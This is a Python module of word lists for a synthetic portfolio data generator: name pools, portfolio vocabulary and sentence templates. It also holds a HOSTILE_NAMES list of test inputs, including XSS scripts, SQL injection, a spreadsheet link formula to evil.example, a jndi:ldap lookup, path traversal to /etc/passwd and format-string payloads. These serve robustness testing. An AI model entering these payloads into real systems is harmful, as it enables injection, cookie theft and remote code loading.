"""Word lists of the generator: names, hostile strings, portfolio vocabulary and templates.

Lists are written as ``|``-separated strings (compact, formatter-stable) and split at import.
"""

from __future__ import annotations


def _words(text: str) -> tuple[str, ...]:
    """Items of a ``|``-separated list."""
    return tuple(text.split("|"))


NAME_POOLS: dict[str, tuple[tuple[str, ...], tuple[str, ...]]] = {
    "anglo": (
        _words(
            "James|Michael|Robert|John|David|William|Richard|Joseph|Thomas|Chris|Daniel|Matthew|Anthony|Mark|"
            "Steven|Andrew|Joshua|Kevin|Brian|Ryan|Mary|Patricia|Jennifer|Linda|Elizabeth|Barbara|Susan|Jessica|"
            "Sarah|Karen|Emily|Ashley|Megan|Rachel|Laura|Olivia|Emma|Hannah|Lauren|Amy"
        ),
        _words(
            "Smith|Johnson|Williams|Brown|Jones|Miller|Davis|Wilson|Anderson|Taylor|Thomas|Moore|Martin|Jackson|"
            "Thompson|White|Harris|Clark|Lewis|Walker|Hall|Allen|Young|King|Wright|Scott|Green|Baker|Adams|"
            "Nelson|Hill|Campbell|Mitchell|Roberts|Carter|Phillips|Evans|Turner|Parker|Collins"
        ),
    ),
    "south_asia": (
        _words(
            "Rahul|Amit|Priya|Sneha|Arjun|Vikram|Ankit|Pooja|Rohit|Neha|Ali|Usman|Ayesha|Fatima|Hassan|Bilal|"
            "Sadia|Rafiq|Tanvir|Nusrat|Sanjay|Deepak|Kavya|Suresh|Anjali|Imran|Zainab|Hamza|Bishal|Sita|Kasun|"
            "Nimal|Dilani|Ravi|Meera|Arif|Shreya|Karan|Farhan|Sabina"
        ),
        _words(
            "Sharma|Patel|Singh|Kumar|Gupta|Reddy|Iyer|Nair|Das|Khan|Ahmed|Hussain|Malik|Chaudhry|Rahman|Islam|"
            "Hossain|Akter|Shrestha|Thapa|Gurung|Perera|Fernando|Silva|Jain|Mehta|Joshi|Verma|Mishra|Bose"
        ),
    ),
    "filipino": (
        _words(
            "Maria|Jose|Mark|Angelica|John Paul|Kristine|Jericho|Mae|Carlo|Joy|Rhea|Paolo|Jasmine|"
            "Miguel|Camille|"
            "Rafael|Bea|Enrico|Lovely|Arnel"
        ),
        _words(
            "Santos|Reyes|Cruz|Bautista|Ocampo|Garcia|Mendoza|Torres|Tomas|Andrada|Castillo|Flores|Villanueva|"
            "Ramos|Castro|Rivera|Aquino|Navarro|Dela Cruz"
        ),
    ),
    "west_africa": (
        _words(
            "Chinedu|Emeka|Ngozi|Adaeze|Tunde|Bola|Kwame|Ama|Kofi|Abena|Ibrahim|Aisha|Olumide|Funmi|Segun|Chioma|"
            "Yaw|Efua|Musa|Zainab"
        ),
        _words(
            "Okafor|Adeyemi|Okonkwo|Balogun|Eze|Mensah|Asante|Boateng|Owusu|Bello|Abubakar|Nwosu|Adebayo|"
            "Ogunleye|Osei|Danjuma|Ibe|Afolabi"
        ),
    ),
    "east_africa": (
        _words(
            "Wanjiru|Kamau|Otieno|Achieng|Mwangi|Njeri|Brian|Faith|Kevin|Mercy|Thabo|Lerato|Sipho|Naledi|Baraka|"
            "Zawadi|Juma|Amani"
        ),
        _words(
            "Kariuki|Odhiambo|Wambui|Mutua|Kiprop|Cheruiyot|Ndlovu|Dlamini|Nkosi|Mokoena|Ochieng|Kimani|Njoroge|"
            "Mwende|Van der Merwe|Botha"
        ),
    ),
    "arab": (
        _words(
            "Ahmed|Mohamed|Mahmoud|Omar|Youssef|Mostafa|Nour|Salma|Mariam|Hana|Karim|Khaled|Yasmine|Amr|Rania|"
            "Hicham|Fatima Zahra|Rachid"
        ),
        _words(
            "Hassan|Ali|Ibrahim|Abdelrahman|El Sayed|Mostafa|Farouk|Mansour|Gamal|Benali|El Amrani|"
            "Tazi|Haddad|"
            "Saleh|Nasser"
        ),
    ),
    "slavic": (
        _words(
            "Oleksandr|Andriy|Dmytro|Olena|Iryna|Natalia|Serhii|Yulia|Maksym|Anna|Ivan|Sergey|Alexei|Ekaterina|"
            "Piotr|Katarzyna|Marek|Agnieszka|Nikola|Milica|Tomasz|Viktoria"
        ),
        _words(
            "Shevchenko|Kovalenko|Bondarenko|Tkachenko|Kravchenko|Melnyk|Ivanov|Petrov|Smirnov|Kuznetsova|Nowak|"
            "Kowalski|Wisniewski|Wojcik|Jovanovic|Petrovic|Nikolic|Popov|Lysenko|Zielinski"
        ),
    ),
    "latin": (
        _words(
            "Lucas|Gabriel|Mateus|Ana|Juliana|Camila|Santiago|Valentina|Diego|Sofia|Carlos|Luis|Jorge|Fernanda|"
            "Mariana|Alejandro|Pedro|Beatriz|Javier|Lucia|Joao|Rafaela"
        ),
        _words(
            "Silva|Santos|Oliveira|Souza|Pereira|Costa|Rodrigues|Gonzalez|Fernandez|Lopez|Martinez|Garcia|"
            "Hernandez|Perez|Gomez|Diaz|Romero|Alvarez|Moreno|Ferreira|Almeida|Ruiz"
        ),
    ),
    "european": (
        _words(
            "Lukas|Leon|Felix|Marie|Sophie|Laura|Jan|Pieter|Thomas|Julie|Camille|Louis|Giulia|Marco|Andrei|Ioana|"
            "Elena|Mihai|Erik|Anna|Lars|Nina"
        ),
        _words(
            "Muller|Schmidt|Schneider|Fischer|Weber|Meyer|Wagner|De Jong|Jansen|Bakker|Dubois|Martin|Bernard|"
            "Rossi|Russo|Ferrari|Popescu|Ionescu|Constantin|Andersson|Johansson|Keller"
        ),
    ),
    "east_asia": (
        _words(
            "Minh|Linh|Huy|Trang|Wei|Li|Jing|Hao|Yuki|Haruto|Ji-woo|Min-jun|Siti|Budi|Dewi|Ahmad|Nurul|Somchai|"
            "Ploy|Kai|Mei|Hiroshi"
        ),
        _words(
            "Nguyen|Tran|Le|Pham|Hoang|Wang|Zhang|Chen|Liu|Yang|Tanaka|Sato|Kim|Lee|Park|Choi|Santoso|Wijaya|Tan|"
            "Lim|Wong|Saetang"
        ),
    ),
    "turkic": (
        _words(
            "Mehmet|Ayse|Emre|Zeynep|Burak|Elif|Giorgi|Nino|Levan|Aram|Ani|Timur|Dilnoza|Rustam|Aziz|Kamila"
        ),
        _words(
            "Yilmaz|Kaya|Demir|Sahin|Celik|Beridze|Kapanadze|Gelashvili|Petrosyan|Hakobyan|Grigoryan|Karimov|"
            "Rakhimov|Usmonov|Aydin"
        ),
    ),
}
# the US population is mixed: (pool, weight)
US_NAME_MIX = (
    ("anglo", 68),
    ("latin", 11),
    ("south_asia", 8),
    ("east_asia", 8),
    ("slavic", 3),
    ("west_africa", 2),
)

HOSTILE_NAMES = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "Robert'); DROP TABLE accounts;--",
    "' OR '1'='1",
    'admin"--',
    '=HYPERLINK("http://evil.example","click")',
    "{{7*7}} ${jndi:ldap://x.example/a}",
    "\u202eevil\u202c name",
    "null",
    "NaN",
    "\u0000\u001b[31mred\u001b[0m",
    "tab\tand\nnewline",
    "\U0001f600\U0001f680 Dev \u200b\u200b",
    "../../etc/passwd",
    "Zalgo Z\u0351\u0358a\u035c\u0360l\u0361g\u0360o",
    "%s%s%s%n",
)
LONG_NAME_UNIT = "Very Long Display Name "

# ---- portfolio text -------------------------------------------------------------------
VERBS = _words(
    "Built|Designed|Developed|Implemented|Created|Delivered|Migrated|Optimized|Launched|Refactored|"
    "Architected|Shipped|Redesigned|Automated|Integrated"
)
ADJECTIVES = _words(
    "scalable|responsive|secure|modern|lightweight|high-performance|accessible|cross-platform|real-time|"
    "serverless|multi-tenant|mobile-first|pixel-perfect|data-driven|cloud-native|minimalist|"
    "user-friendly|robust"
)
PRODUCTS = _words(
    "web app|dashboard|mobile app|REST API|landing page|e-commerce store|CRM integration|data pipeline|"
    "chatbot|booking system|admin panel|marketplace|payment gateway|analytics platform|browser extension|"
    "design system|SaaS MVP|inventory system|learning platform|portfolio site|GraphQL API|ETL workflow|"
    "recommendation engine|brand identity|logo set|UI kit|microservice|smart contract"
)
INDUSTRIES = _words(
    "fintech|healthcare|real estate|logistics|education|travel|retail|insurance|media|gaming|legal|"
    "nonprofit|automotive|hospitality|crypto|agriculture|fitness|food delivery|HR|energy"
)
TECHS = _words(
    "React|Node.js|Django|Flutter|AWS|Kubernetes|PostgreSQL|Laravel|Shopify|WordPress|Next.js|TypeScript|"
    "Go|Rust|Figma|Vue|Angular|Firebase|Docker|Terraform|Python|Swift|Kotlin|MongoDB|Redis|Stripe|"
    "Tailwind|GCP|Azure|Solidity|FastAPI|Spring Boot|.NET|Svelte|Unity|Webflow"
)
METRICS = _words("30%|40%|50%|60%|2x|3x|5x|70%|25%|90%")
RESULTS = _words(
    "load time|conversion rate|server costs|checkout time|support tickets|page speed|signup rate|"
    "retention|query latency|deployment time"
)
CLIENTS = _words("startup|client|agency|enterprise|small business|founder|team|brand")

# Boilerplate sentences many freelancers paste (shared phrases, not shared descriptions).
OPENERS = (
    "Project overview .",
    "Here is a recent project I completed .",
    "This is one of my favorite projects .",
    "Case study :",
    "Client project under NDA , details shared with permission .",
    "Full-cycle project from idea to launch .",
)
CLOSERS = (
    "Feel free to reach out for more details .",
    "Available for long-term collaboration .",
    "NDA available on request .",
    "Delivered on time and within budget .",
    "Client feedback : 5 stars .",
    "Source code available on request .",
    "Let's discuss your project !",
    "Happy to build something similar for you .",
)
# Sentence templates: literal words, or {category} slots filled at random.
SENTENCES = (
    "{verb} a {adj} {product} for a {industry} {client} using {tech} and {tech} .",
    "{verb} the {product} with {tech} , cutting {result} by {metric} .",
    "The {adj} {product} serves a {industry} {client} and runs on {tech} .",
    "I {verb_l} a {product} in {tech} with a {adj} {tech} backend .",
    "{verb} a {adj} {product} that improved {result} by {metric} for a {industry} {client} .",
    "Stack : {tech} , {tech} , {tech} and {tech} .",
    "Worked with the {client} to turn a {industry} idea into a {adj} {product} .",
    "Responsible for the {product} , the {product} and a {adj} {product} .",
    "{verb} {tech} integrations and a {adj} {product} for the {industry} sector .",
    "The {client} needed a {adj} {product} ; we {verb_l} it in {tech} within weeks .",
    "Key result : {result} improved by {metric} after the {tech} migration .",
    "Includes a {adj} {product} , {tech} tests and a {tech} deployment .",
)
TITLES = (
    "{adj_t} {product_t} for {industry}",
    "{industry_t} {product_t}",
    "{product_t} in {tech}",
    "{adj_t} {product_t}",
    "{tech} {product_t} for a {industry} {client}",
)

# URL parts
URL_HOSTS = ("github.com", "behance.net", "dribbble.com", "gitlab.com", "own")
OWN_TLDS = (".com", ".dev", ".io", ".me", ".design", ".net")
